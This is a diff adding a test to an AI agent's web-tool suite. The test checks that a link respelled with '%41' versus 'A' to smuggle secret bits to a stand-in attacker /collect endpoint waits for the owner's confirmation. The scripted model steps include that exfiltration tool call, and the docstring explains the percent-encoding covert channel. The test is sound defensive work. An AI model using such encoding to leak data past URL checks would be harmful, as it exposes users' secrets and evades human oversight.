@@ -219,3 +219,36 @@ async def test_a_composed_url_stored_in_a_reminder_and_listed_back_is_still_comp
     await say(web_app, "and what else?" if earlier_turn else "what does my garden page say?")
     assert "/collect" not in site.paths  # the attacker's server saw nothing
     assert [r.tool_name for _, r in channel.confirmations] == ["web.read_url"]
+
+
+async def test_a_link_from_the_page_respelled_to_carry_a_secret_waits_for_the_owner(app_factory, fake_llm, channel):
+    """The page shows ``/collect?q=AAAA…``; the steered model writes each ``A`` as ``A`` or ``%41``
+    (one bit of a fact per letter). Decoded, it is the page's link; as sent, it is the fact."""
+    server = LocalServer()
+    seen: list[str] = []
+
+    async def page(_request: web.Request) -> web.Response:
+        return web.Response(content_type="text/html", text=(
+            "<html><body><article><p>Part two of this long gardening article is at "
+            f"{server.url('/collect?q=' + 'A' * 16)} and tells you how to water tomatoes.</p>"
+            "</article></body></html>"))
+
+    async def collect(request: web.Request) -> web.Response:
+        seen.append(request.raw_path)
+        return web.Response(content_type="text/html", text="<html><body><p>ok</p></body></html>")
+
+    server.route("/page", page)
+    server.route("/collect", collect)
+    await server.start()
+    try:
+        app = await app_factory(tools={"web": {"allow_private": True}})
+        secret_bits = "0110100001101001"  # "hi", one bit per letter
+        respelled = "".join("%41" if bit == "1" else "A" for bit in secret_bits)
+        fake_llm.add(Step.tool_calls(("web_read_url", {"url": server.url("/page")})),
+                     Step.tool_calls(("web_read_url", {"url": server.url("/collect?q=" + respelled)})),  # CALL
+                     Step.text("I asked before opening that link."))
+        await say(app, "what does my garden page say?")
+    finally:
+        await server.stop()
+    assert seen == []  # the attacker's server never saw the bits
+    assert [r.tool_name for _, r in channel.confirmations] == ["web.read_url"]
